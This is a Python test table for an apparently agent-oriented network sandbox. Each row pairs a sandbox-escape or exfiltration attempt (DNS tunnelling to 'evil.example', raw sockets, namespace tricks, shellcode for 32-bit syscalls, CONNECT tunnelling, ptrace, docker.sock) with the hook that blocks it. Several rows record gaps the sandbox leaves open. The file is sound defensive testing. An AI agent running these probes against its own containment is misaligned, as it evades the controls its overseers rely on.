# ruff: noqa: E501  # a row is a line
"""Class "other ways out": reaching somewhere by anything but TCP or DNS through us."""

from __future__ import annotations

from tests.bypass.rows import Row
from tests.bypass.taking import OURS
from tests.world import HOST4, OUTSIDE4, OUTSIDE6

# The kernel turns every TCP connection to the proxy, which finds no destination for it
POLICY = "turned to the proxy; policy names no such destination"
UDP = "connect and sendmsg hooks: UDP is refused but for DNS"
KIND = "sock_create hook: TCP and UDP sockets only"
FAMILY = "seccomp filter of `coatcheck run`: AF_UNIX, AF_INET, AF_INET6 and AF_NETLINK only"
EGRESS = "egress hook: nothing of a job leaves but by loopback"
NO_RIGHTS = "the job has no capability on the host"

SPEAK = "s.send(b'hello\\n'); say(s.recv(99))"
OPEN = "s = socket.socket(); "
OPEN6 = "s = socket.socket(10); "
TO = f"s.connect(({OUTSIDE4!r}, 7777)); {SPEAK}"
CUT = ("ECONNRESET",)
NO = ("EPERM",)


def question(name: str, kind: int = 1) -> str:
    """Python for a DNS question about `name` (an expression), as `q`."""
    return (
        f"q = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(p)]) + p for p in ({name}).split(b'.'))"
        f" + struct.pack('!BHH', 0, {kind}, 1); "
    )


ANSWER = "say('rcode', a[3] & 15, 'answers', a[7])"
UDP_ASK = "s = socket.socket(2, 2); s.sendto(q, ({server!r}, 53)); a = s.recv(999); " + ANSWER
TCP_ASK = OPEN + "s.connect(({server!r}, 53)); s.sendall(struct.pack('!H', len(q)) + q); a = s.recv(999)[2:]; " + ANSWER
UNSHARED = "c = ctypes.CDLL(None, use_errno=True); assert c.unshare({flags}) == 0, 'no user namespaces'; "
SYSCALL = "c = ctypes.CDLL(None, use_errno=True); r = c.syscall({call}); say(errno.errorcode[ctypes.get_errno()] if r < 0 else r)"

_PLAIN = (
    Row("TCP to another address or port", POLICY, OPEN + TO, CUT),
    Row("HTTP on port 80 of an allowed host's address", POLICY, OPEN + f"s.connect(({OUTSIDE4!r}, 80)); s.send(b'GET / HTTP/1.1\\r\\nHost: service.test\\r\\n\\r\\n'); say(s.recv(12))", ("b'HTTP/1.1 403",)),
    Row("IPv6 where only IPv4 is configured", POLICY, OPEN6 + f"s.connect(({OUTSIDE6!r}, 7777)); {SPEAK}", CUT),
    Row("IPv4 by a v4-mapped IPv6 address", POLICY, OPEN6 + f"s.connect(('::ffff:{OUTSIDE4}', 7777)); {SPEAK}", CUT),
    Row("a bound source address", POLICY, OPEN + f"s.bind(({HOST4!r}, 0)); {TO}", (*CUT, "timed out", "EINVAL")),
    Row("non-blocking connect, then send", POLICY, OPEN + f"s.setblocking(False); s.connect_ex(({OUTSIDE4!r}, 7777)); time.sleep(0.2); s.settimeout(3); {SPEAK}", CUT),
    Row("AF_UNSPEC connect, then anew", POLICY, OPEN + f"s.connect(({OUTSIDE4!r}, 443)); c = ctypes.CDLL(None); c.connect(s.fileno(), bytes(16), 16); s.settimeout(3); {TO}", (*CUT, "EPIPE", "EINVAL")),
    Row("TCP fast open by sendto", POLICY, OPEN + f"s.setblocking(True); s.sendto(b'leak\\n', 0x20000000, ({OUTSIDE4!r}, 7777)); say(s.recv(99))", CUT),
    Row("TCP fast open by TCP_FASTOPEN_CONNECT", POLICY, OPEN + f"s.setsockopt(6, 30, 1); {TO}", CUT),
    Row("a destination that answers nothing until spoken to", "turned to the proxy, which dials nobody before policy has allowed it", OPEN + f"s.connect(({OUTSIDE4!r}, 7777)); s.settimeout(0.5); say(s.recv(9))", ("timed out",)),
    Row("0.0.0.0 and :: for a service of the host", POLICY, OPEN + f"s.connect(('0.0.0.0', 7779)); {SPEAK}", CUT),
    Row("a service of another user on loopback", POLICY, OPEN + f"s.connect(('127.0.0.1', 7779)); {SPEAK}", CUT),
    Row("MPTCP", KIND, "socket.socket(2, 1, 262)", (*NO, "EPROTONOSUPPORT")),
    Row("SCTP, DCCP, SMC, UDP-Lite", KIND, "def f(*kind):\n try:\n  socket.socket(*kind); return 'made'\n except OSError as e:\n  return errno.errorcode[e.errno]\nfound = {f(2, 1, 132), f(2, 6, 33), f(2, 1, 256), f(2, 2, 136), f(10, 2, 136)}\nsay('made' in found)", ("False",)),
)  # fmt: skip

_UDP = (
    Row("UDP", UDP, f"s = socket.socket(2, 2); s.sendto(b'x', ({OUTSIDE4!r}, 7777))", NO),
    Row("QUIC's port", UDP, f"s = socket.socket(2, 2); s.connect(({OUTSIDE4!r}, 443)); s.send(b'x')", NO),
    Row("UDP over IPv6, and v4-mapped", UDP, f"s = socket.socket(10, 2)\nfor to in ({OUTSIDE6!r}, '::ffff:{OUTSIDE4}'):\n try:\n  s.sendto(b'x', (to, 443)); say('sent')\n except PermissionError:\n  say('EPERM')", ("EPERM | EPERM",)),
    Row("multicast", UDP, "s = socket.socket(2, 2); s.sendto(b'x', ('224.0.0.5', 5000))", NO),
    Row("broadcast", UDP, "s = socket.socket(2, 2); s.setsockopt(1, 6, 1); s.sendto(b'x', ('10.77.0.255', 67))", NO),
    Row("mDNS and LLMNR", UDP, "s = socket.socket(2, 2)\nfor to in (('224.0.0.251', 5353), ('224.0.0.252', 5355)):\n try:\n  s.sendto(b'x', to); say('sent')\n except PermissionError:\n  say('EPERM')", ("EPERM | EPERM",)),
    Row("a UDP socket connected for DNS, then used elsewhere", UDP, f"s = socket.socket(2, 2); s.connect(({OUTSIDE4!r}, 53)); s.sendto(b'x', ({OUTSIDE4!r}, 7777))", NO),
    Row("UDP out of a chosen device (IP_PKTINFO, port 53)", EGRESS, f"s = socket.socket(2, 2); n = socket.if_nametoindex('v0'); s.sendmsg([b'leak'], [(0, 8, struct.pack('=i8x', n))], 0, ({OUTSIDE4!r}, 53)); say('sent')", ("sent", *NO, "EINVAL", "ENETUNREACH")),
    Row("UDP out of a chosen device (IP_UNICAST_IF, port 53)", EGRESS, f"s = socket.socket(2, 2); s.setsockopt(0, 50, struct.pack('!i', socket.if_nametoindex('v0'))); s.sendto(b'leak', ({OUTSIDE4!r}, 53)); say('sent')", ("sent", *NO, "EINVAL", "ENETUNREACH")),
)  # fmt: skip

_DNS = (
    Row("DNS to a server of one's own", "turned to the forwarder: names that policy does not name are REFUSED, nobody is asked", question("b'evil.example'") + UDP_ASK.format(server=OUTSIDE4), ("rcode 5 answers 0",)),
    Row("DNS over TCP", "the same, by the proxy", question("b'evil.example'") + TCP_ASK.format(server=OUTSIDE4), ("rcode 5 answers 0",)),
    Row("DNS over TLS (port 853)", POLICY, OPEN + f"s.connect(({OUTSIDE4!r}, 853)); x = ssl._create_unverified_context(); s = x.wrap_socket(s, server_hostname='dns.example'); s.send(b'\\0\\1x'); say(s.recv(12))", ("b'HTTP/1.1 4", "timed out")),
    Row("DNS over HTTPS at a resolver's address", "TLS is ended by the proxy; policy names no such destination", OPEN + f"s.connect(({OUTSIDE4!r}, 443)); x = ssl._create_unverified_context(); s = x.wrap_socket(s, server_hostname='dns.example'); s.send(b'POST /dns-query HTTP/1.1\\r\\nHost: dns.example\\r\\nContent-Length: 0\\r\\n\\r\\n'); say(s.recv(12))", ("b'HTTP/1.1 403",)),
    Row("DNS tunnelling by long random names", "the forwarder asks nobody about a name that policy does not name exactly", question("os.urandom(30).hex().encode() + b'.' + os.urandom(30).hex().encode() + b'.service.test'") + UDP_ASK.format(server=OUTSIDE4), ("rcode 5 answers 0",)),
    Row("DNS tunnelling by TXT, NULL and the like of an allowed name", "only A and AAAA are asked of servers", question("b'service.test'", 16) + UDP_ASK.format(server=OUTSIDE4), ("rcode 0 answers 0",)),
    Row("DNS tunnelling by what is not a question", "questions are parsed and asked afresh; nothing of a packet is relayed", f"s = socket.socket(2, 2); s.settimeout(0.5); s.sendto(os.urandom(300), ({OUTSIDE4!r}, 53)); s.recv(99)", ("timed out", "done")),
)  # fmt: skip

_RAW = (
    Row("raw IP", f"{KIND}; {NO_RIGHTS}", "socket.socket(2, 3, 255)", NO),
    Row("raw ICMP and ICMPv6", f"{KIND}; {NO_RIGHTS}", "socket.socket(2, 3, 1)", NO),
    Row("ICMP ping socket with a payload", KIND, f"s = socket.socket(2, 2, 1); s.sendto(b'\\x08' + bytes(7) + b'leak', ({OUTSIDE4!r}, 0))", NO),
    Row("ICMPv6 ping socket", KIND, "socket.socket(10, 2, 58)", NO),
    Row("AF_PACKET", FAMILY, "socket.socket(17, 3, 0x0300)", ("EAFNOSUPPORT",)),
    Row("AF_PACKET in a user and network namespace of one's own", FAMILY, UNSHARED.format(flags="0x50000000") + "socket.socket(17, 3, 0x0300)", ("EAFNOSUPPORT", "AssertionError")),
    Row("AF_VSOCK", FAMILY, "socket.socket(40, 1)", ("EAFNOSUPPORT",)),
    Row("AF_XDP", FAMILY, "socket.socket(44, 3)", ("EAFNOSUPPORT",)),
    Row("AF_ALG, Bluetooth, TIPC, RDS, SMC, CAN, KCM, QRTR", FAMILY, "def f(n):\n try:\n  socket.socket(n, 5 if n == 38 else 1); return 'made'\n except OSError as e:\n  return errno.errorcode[e.errno]\nsay({f(n) for n in (38, 31, 30, 21, 43, 29, 41, 42)})", ("{'EAFNOSUPPORT'}",)),
    Row("a family by socketpair", FAMILY, SYSCALL.format(call="53 if os.uname().machine == 'x86_64' else 199, 30, 1, 0, ctypes.create_string_buffer(8)"), ("EAFNOSUPPORT",)),
    Row("a socket by 32-bit system calls (int 0x80)", "seccomp filter: another ABI's calls are missing", "import mmap\nm = mmap.mmap(-1, 4096, prot=7); m.write(bytes.fromhex('5389f8' '89f3' '89d1' '31d2' 'cd80' '5bc3'))\nf = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))\nif os.uname().machine == 'x86_64':\n say(errno.errorcode.get(-f(359, 17, 3), 'made'))\nelse:\n say('ENOSYS')", ("ENOSYS",)),
    Row("a socket by x32 system calls", "seccomp filter: another ABI's calls are missing", SYSCALL.format(call="0x40000000 + 41, 17, 3, 0"), ("ENOSYS",)),
    Row("io_uring", "seccomp filter: io_uring_setup is refused", SYSCALL.format(call="425, 4, ctypes.create_string_buffer(120)"), NO),
    Row("taking the seccomp filter off, gaining by setuid programs", "no_new_privs; a filter can only be added to", "f = dict(l.split(':', 1) for l in open('/proc/self/status')); say(f['NoNewPrivs'].strip(), f['Seccomp'].strip(), f['CapEff'].strip())", ("1 2 0000000000000000",)),
)  # fmt: skip

_OPTIONS = (
    Row("SO_BINDTODEVICE", "the hook binds the socket to loopback again, or refuses", OPEN + f"s.setsockopt(1, 25, b'v0'); {TO}", (*CUT, *NO)),
    Row("IP_UNICAST_IF", POLICY, OPEN + f"s.setsockopt(0, 50, struct.pack('!i', socket.if_nametoindex('v0'))); {TO}", (*CUT, *NO, "timed out")),
    Row("IP_TRANSPARENT, IP_FREEBIND to another's address", NO_RIGHTS, OPEN + "s.setsockopt(0, 19, 1)", NO),
    Row("SO_MARK for another routing table", NO_RIGHTS, OPEN + "s.setsockopt(1, 36, 1)", NO),
    Row("TCP_REPAIR: a connection without a connect", NO_RIGHTS, OPEN + "s.setsockopt(6, 19, 1)", NO),
    Row("loose source routing (IP_OPTIONS)", EGRESS, OPEN + f"s.setsockopt(0, 4, bytes([1, 131, 7, 4]) + socket.inet_aton({OUTSIDE4!r})); s.settimeout(1); {TO}", (*CUT, *NO, "timed out", "EINVAL", "ENETUNREACH", "EINPROGRESS")),
    Row("a routing header (IPV6_RTHDR)", EGRESS, OPEN6 + f"h = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + socket.inet_pton(10, {OUTSIDE6!r}); s.setsockopt(41, 57, h); s.settimeout(1); s.connect(({OUTSIDE6!r}, 7777)); {SPEAK}", (*CUT, *NO, "timed out", "EINVAL", "ENETUNREACH")),
    Row("the upper layer protocols of TCP (TCP_ULP)", POLICY, OPEN + f"s.connect(({OUTSIDE4!r}, 7777))\ntry:\n s.setsockopt(6, 31, b'tls')\nexcept OSError:\n pass\n{SPEAK}", CUT),
)  # fmt: skip

_OURS = (
    Row("connecting to the proxy's port", "connect hook: our own ports are refused", OPEN + "s.connect(('127.0.0.1', 1006))", NO),
    Row("connecting to the forwarder's port", "connect hook: our own ports are refused", OPEN + "s.connect(('127.0.0.1', 1007))", NO),
    Row("sending to the forwarder's port", UDP, "s = socket.socket(2, 2); s.sendto(b'x', ('127.0.0.1', 1007))", NO),
    Row("taking our ports while we are away", "bind hook; they are under 1024", "def f(k, a, p):\n try:\n  socket.socket(k[0], k[1]).bind((a, p)); return 'bound'\n except OSError as e:\n  return errno.errorcode[e.errno]\nsay({f((2, 1), '127.0.0.1', 1006), f((2, 1), '0.0.0.0', 1006), f((10, 1), '::', 1006), f((2, 2), '0.0.0.0', 1007)})", ("{'EPERM'}",)),
    Row("a proxy outside, named in http_proxy", POLICY, f"done = subprocess.run(['curl', '-sS', '-m', '5', '-w', '%{{http_code}}', '-o', '/dev/null', 'http://other.example/'], env={{**os.environ, 'http_proxy': 'http://{OUTSIDE4}:7777'}}, capture_output=True, text=True); say(done.stdout)", ("403", "000")),
    Row("CONNECT through an allowed host", "policy: CONNECT is never let through", OPEN + f"s.connect(({OUTSIDE4!r}, 443)); x = ssl._create_unverified_context(); s = x.wrap_socket(s, server_hostname='service.test'); s.send(b'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n'); say(s.recv(12))", ("b'HTTP/1.1 4",)),
    Row("ending or stopping our processes", NO_RIGHTS, OURS + "def f(p):\n try:\n  os.kill(p, 19); return 'sent'\n except OSError as e:\n  return errno.errorcode[e.errno]\nsay({f(p) for p in ours})", ("{'EPERM'}",)),
    Row("detaching the hooks (bpf(2), the pins)", "the pins' folder is root's alone; bpf(2) takes capabilities", "f = os.environ['COATCHECK_SOCKET'].rpartition('/')[0] + '/bpf'; os.listdir(f)", ("EACCES",)),
    Row("routes, addresses, other sockets by netlink", NO_RIGHTS, "done = subprocess.run(['ip', 'route', 'add', '192.0.2.0/24', 'via', '10.77.0.2'], capture_output=True, text=True); say(done.stderr)", ("RTNETLINK answers: Operation not permitted",)),
    Row("a TUN device", NO_RIGHTS, "import fcntl; f = os.open('/dev/net/tun', os.O_RDWR); fcntl.ioctl(f, 0x400454ca, struct.pack('16sH14x', b'leak', 1))", ("EPERM", "EACCES", "ENOENT", "ENODEV")),
)  # fmt: skip

_PLACES = (
    Row("moving to another cgroup", "cgroup files are root's", "import pathlib; m = next(l.split()[4] for l in open('/proc/self/mountinfo') if ' - cgroup2 ' in l); open(m + '/cgroup.procs', 'w').write(str(os.getpid()))", ("EACCES",)),
    Row("a cgroup file system of one's own (user, mount and cgroup namespace)", "its files are still root's", UNSHARED.format(flags="0x12020000") + "os.makedirs('/tmp/cg-' + str(os.getpid())); d = '/tmp/cg-' + str(os.getpid())\nr = c.mount(b'none', d.encode(), b'cgroup2', 0, None)\ne = ctypes.get_errno()\ntry:\n if r: raise OSError(e, '')\n open(d + '/cgroup.procs', 'w').write('0')\nfinally:\n if r == 0: c.umount2(d.encode(), 2)\n os.rmdir(d)", ("EACCES", "EPERM", "AssertionError")),
    Row("a user and network namespace", "connect hook: only the host's network namespace; nothing leads out of a new one", UNSHARED.format(flags="0x50000000") + OPEN + TO, ("EPERM", "AssertionError")),
    Row("a veth pair out of a network namespace of one's own", NO_RIGHTS, UNSHARED.format(flags="0x10000000") + "pid = os.getpid(); assert c.unshare(0x40000000) == 0; open('/proc/self/setgroups', 'w').write('deny'); open('/proc/self/uid_map', 'w').write('0 65534 1'); done = subprocess.run(['ip', 'link', 'add', 'x0', 'type', 'veth', 'peer', 'name', 'x1', 'netns', str(os.getppid())], capture_output=True, text=True); say(done.stderr)", ("RTNETLINK answers: Operation not permitted", "AssertionError")),
    Row("entering another process's network namespace", NO_RIGHTS, "os.open('/proc/1/ns/net', os.O_RDONLY)", ("EACCES",)),
    Row("a mount namespace of one's own", "the hooks know no paths", UNSHARED.format(flags="0x10020000") + OPEN + TO, (*CUT, "AssertionError")),
    Row("a pid namespace of one's own", "the kernel's record has the host's pid", UNSHARED.format(flags="0x30000000") + OPEN + f"p = os.fork()\nif p == 0:\n s.connect(({OUTSIDE4!r}, 7777)); s.send(b'x\\n')\n try:\n  s.recv(9); os._exit(1)\n except ConnectionResetError: os._exit(0)\nsay(os.waitpid(p, 0)[1])", ("0", "AssertionError")),
    Row("a listener in the job, fetched from outside", EGRESS),
    Row("a listener in the job that a service of the host fetches", "only the host can: it is a way in for the host, not a way out", holds=False),
    Row("a child that outlives the job's main process", "the job ends with its main process: its cgroup is killed"),
    Row("a child of a running job, detached by two forks and a session", "it stays in the job's cgroup: governed like the rest"),
    Row("a network socket inherited as standard input", "`coatcheck run` refuses to start"),
    Row("a network socket inherited under a high number", "`coatcheck run` closes all but the first three descriptors; the kernel process looks again"),
    Row("a socket of another job, passed over AF_UNIX, not connected", "connect and sendmsg hooks: a socket works in the job that made it only"),
    Row("a connected socket of another job, passed over AF_UNIX", "it stays a connection of the job that made it, under that job's identity and on its record. Jobs that work together are one job to policy", holds=False),
    Row("a network socket from a process outside of any job, passed over AF_UNIX", "whoever is outside and passes sockets in works for the job. Run agents under a user of their own, with no such helper (and no ssh-agent, tmux or D-Bus of a person) within reach", holds=False),
    Row("a daemon outside of any job that dials for it (docker.sock, systemd, cron)", "AF_UNIX stays on the host, so it is not looked into. Keep such sockets out of the agent's reach: no docker group, no user manager, a mount view without them", holds=False),
    Row("a process of the same user outside of any job, taken over by ptrace", "the kernel lets a user trace its own processes. Run agents under a user of their own, or set kernel.yama.ptrace_scope to 1 or more", holds=False),
)  # fmt: skip

ROWS = _PLAIN + _UDP + _DNS + _RAW + _OPTIONS + _OURS + _PLACES
